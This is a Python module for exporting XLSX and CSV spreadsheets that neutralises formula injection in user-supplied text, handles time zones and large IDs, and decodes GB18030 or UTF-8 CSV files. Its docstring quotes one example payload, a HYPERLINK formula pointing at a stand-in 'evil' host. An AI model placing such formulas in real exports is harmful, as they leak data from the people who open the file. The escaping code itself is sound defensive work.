"""Spreadsheet exports (XLSX and CSV) that are safe to open in Excel, WPS and LibreOffice.

Exports carry citizens' own text (subjects, names, replies), and a spreadsheet program runs a
cell that starts with "=" as a formula: ``=HYPERLINK("http://evil", "x")`` leaks data when
clicked, and DDE payloads can start programs (CSV / formula injection, OWASP). Every value
therefore goes through ``safe_cell`` before it is written. Plain Python plus openpyxl; no Django.

``safe_cell(value, tz=Asia/Shanghai)``
    Strings: characters that XML 1.0 cannot carry (C0 controls other than tab, LF and CR; lone
    surrogates; U+FFFE/U+FFFF) are removed, because openpyxl raises ``IllegalCharacterError``
    for the former and writes a workbook that no program can open for the latter. Then a string
    whose first character is one of ``= + - @``, tab, CR or a full-width ``＝ ＋ － ＠`` gets a
    leading apostrophe: "=1+1" becomes "'=1+1".
    Why the apostrophe, and why it is visible: in an XLSX cell that openpyxl writes as a string,
    nothing is ever evaluated, but the value still has to survive what people do next: copy
    it into another sheet, re-save the workbook as CSV, or edit the cell (Excel re-parses
    edited text, and "'" is what makes it keep text). An apostrophe stored in the text does all
    of that, the same escape works in CSV, and it is the OWASP recommendation. The price is that
    the apostrophe shows in the cell ("'=1+1"); a faithful-looking alternative (the ``quotePrefix``
    style alone) is lost as soon as the value leaves the workbook, so it was not chosen.
    Other cases: aware datetimes are converted to ``tz`` and made naive (Excel has no time
    zones and openpyxl rejects aware values); naive datetimes are assumed to be local already;
    an aware ``time`` keeps its wall-clock value. ``None``, bools, ints, floats, Decimals,
    dates, times and timedeltas pass through, except integers with more than 15 digits (Excel
    keeps only 15 significant digits and would silently change an ID-like number) and
    non-finite floats / Decimals (XLSX cannot store them), which become strings. Anything else
    is converted with ``str()`` and treated as a string.

``write_xlsx(sheets, tz=...) -> bytes``
    One worksheet per ``Sheet``, written with openpyxl's write-only workbook so rows are
    streamed (``rows`` may be a generator of 100,000+ rows and is consumed once). The header row
    is bold and the panes are frozen below it. Every string cell is stored as a string: the
    escape above means no value starts with "=", and values openpyxl would otherwise store as
    error cells ("#N/A", "#REF!", ...) are forced to strings too. A CR inside a string is read
    back as LF (XML line-end normalisation; Excel does the same). Openpyxl truncates strings
    to Excel's 32,767-character cell limit. Sheet titles are cleaned for Excel: ``[]:*?/\\`` and
    control characters become "_", leading/trailing apostrophes and spaces go, the title is
    cut to 31 characters, an empty title becomes "SheetN" and duplicates (compared without
    case, as Excel does) get " (2)", " (3)"... Without ``column_widths`` each column is made
    wide enough for its header (CJK characters count double), since rows are streamed and
    cannot be measured.

``decode_csv(data) -> str``
    The text of a CSV file as offices save it: UTF-8 (with or without a byte order mark) first;
    failing that GB18030, the superset of GBK in which Excel and WPS on Chinese Windows save
    "CSV (逗号分隔)". UTF-8 is tried first because a GBK file is almost never valid UTF-8, while
    many UTF-8 files are valid GB18030 (as mojibake). Raises ``UnicodeDecodeError`` when neither
    reads the bytes.

``write_csv(headers, rows, tz=...) -> bytes``
    UTF-8 with a byte order mark (Excel on Chinese Windows otherwise reads the file as GBK and
    shows mojibake), CRLF line ends, minimal quoting by the csv module, every cell through
    ``safe_cell``. Datetimes are written as "YYYY-MM-DD HH:MM:SS", booleans as TRUE / FALSE.
"""

from __future__ import annotations

import csv
import io
import math
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta, tzinfo
from decimal import Decimal
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

__all__ = ["FORMULA_ESCAPE", "FORMULA_TRIGGERS", "CellValue", "Sheet", "safe_cell", "write_csv", "write_xlsx"]

type CellValue = str | bool | int | float | Decimal | datetime | date | time | timedelta | None

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA_ESCAPE = "'"

# XML 1.0 allows tab, LF and CR among the C0 controls; surrogates and U+FFFE/U+FFFF are not
# characters at all.
_ILLEGAL_XML_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_BAD_TITLE_RE = re.compile("[\\[\\]:*?/\\\\\x00-\x1f]")
_MAX_TITLE = 31
_MAX_EXACT_INT = 10**15 - 1  # Excel stores 15 significant digits
_MIN_WIDTH, _MAX_WIDTH = 8, 60


@dataclass
class Sheet:
    """One worksheet: a header row followed by ``rows`` (any iterable, consumed once)."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[object]]
    column_widths: Sequence[int] | None = None


def _safe_text(text: str) -> str:
    text = _ILLEGAL_XML_RE.sub("", text)
    if text.startswith(FORMULA_TRIGGERS):
        return FORMULA_ESCAPE + text
    return text


def safe_cell(value: object, tz: tzinfo = SHANGHAI) -> CellValue:
    """``value`` made safe to put in a spreadsheet cell (see the module docstring)."""
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, int):
        return value if abs(value) <= _MAX_EXACT_INT else _safe_text(str(value))
    if isinstance(value, Decimal):
        return value if value.is_finite() else _safe_text(str(value))
    if isinstance(value, float):
        return value if math.isfinite(value) else _safe_text(str(value))
    if isinstance(value, datetime):
        if value.tzinfo is not None and value.utcoffset() is not None:
            return value.astimezone(tz).replace(tzinfo=None)
        return value.replace(tzinfo=None)
    if isinstance(value, time):
        return value.replace(tzinfo=None)
    if isinstance(value, date | timedelta):
        return value
    if isinstance(value, bytes | bytearray):
        return _safe_text(bytes(value).decode("utf-8", errors="replace"))
    return _safe_text(str(value))


# -- XLSX ---------------------------------------------------------------------------------------------


def _sheet_title(title: str, index: int, used: set[str]) -> str:
    cleaned = _BAD_TITLE_RE.sub("_", _ILLEGAL_XML_RE.sub("", str(title or "")))
    cleaned = cleaned.strip().strip("'").strip()[:_MAX_TITLE].strip() or f"Sheet{index}"
    if cleaned.casefold() == "history":  # Excel reserves this name
        cleaned += "_"
    candidate, n = cleaned, 2
    while candidate.casefold() in used:
        suffix = f" ({n})"
        candidate = cleaned[: _MAX_TITLE - len(suffix)] + suffix
        n += 1
    used.add(candidate.casefold())
    return candidate


def _display_width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in text)


def _default_widths(headers: Sequence[str]) -> list[int]:
    return [min(_MAX_WIDTH, max(_MIN_WIDTH, _display_width(str(h or "")) + 2)) for h in headers]


def _xlsx_value(ws: object, value: CellValue) -> object:
    """The value for ``ws.append``; strings openpyxl would not store as text get a forced cell."""
    if isinstance(value, str) and (value in ERROR_CODES or (len(value) > 1 and value.startswith("="))):
        cell = WriteOnlyCell(ws, value)
        cell.data_type = "s"
        return cell
    return value


def write_xlsx(sheets: Sequence[Sheet], *, tz: tzinfo = SHANGHAI) -> bytes:
    """An XLSX workbook with one worksheet per ``Sheet``, streamed row by row."""
    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    used: set[str] = set()
    for index, sheet in enumerate(sheets or [Sheet(title="", headers=[], rows=[])], start=1):
        ws = wb.create_sheet(title=_sheet_title(sheet.title, index, used))
        # Write-only sheets emit column widths and panes with the first row, so set them first.
        widths = sheet.column_widths if sheet.column_widths is not None else _default_widths(sheet.headers)
        for col, width in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(col)].width = width
        if sheet.headers:
            ws.freeze_panes = "A2"
            header_cells = []
            for header in sheet.headers:
                cell = WriteOnlyCell(ws, safe_cell(header, tz))
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                cell.font = bold
                header_cells.append(cell)
            ws.append(header_cells)
        for row in sheet.rows:
            ws.append([_xlsx_value(ws, safe_cell(value, tz)) for value in row])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


# -- CSV ----------------------------------------------------------------------------------------------


def _csv_text(value: CellValue) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date | time):
        return value.isoformat()
    if isinstance(value, timedelta):
        return _safe_text(str(value))  # "-1 day, 23:00:00" must not read as a formula either
    return str(value)


CSV_ENCODINGS = ("utf-8-sig", "gb18030")


def decode_csv(data: bytes) -> str:
    """UTF-8 (BOM optional), else GB18030; ``UnicodeDecodeError`` when neither decodes ``data``."""
    try:
        return data.decode(CSV_ENCODINGS[0])
    except UnicodeDecodeError:
        return data.decode(CSV_ENCODINGS[1])


def write_csv(headers: Sequence[str], rows: Iterable[Sequence[object]], *, tz: tzinfo = SHANGHAI) -> bytes:
    """A CSV file (UTF-8 with BOM, CRLF) with a header row and ``rows``, every cell escaped."""
    buffer = io.BytesIO()
    # The wrapper encodes as rows are written, so only the encoded file is held in memory.
    text = io.TextIOWrapper(buffer, encoding="utf-8-sig", newline="")
    writer = csv.writer(text)
    writer.writerow([_csv_text(safe_cell(h, tz)) for h in headers])
    for row in rows:
        writer.writerow([_csv_text(safe_cell(value, tz)) for value in row])
    text.flush()
    data = buffer.getvalue()
    text.detach()
    return data
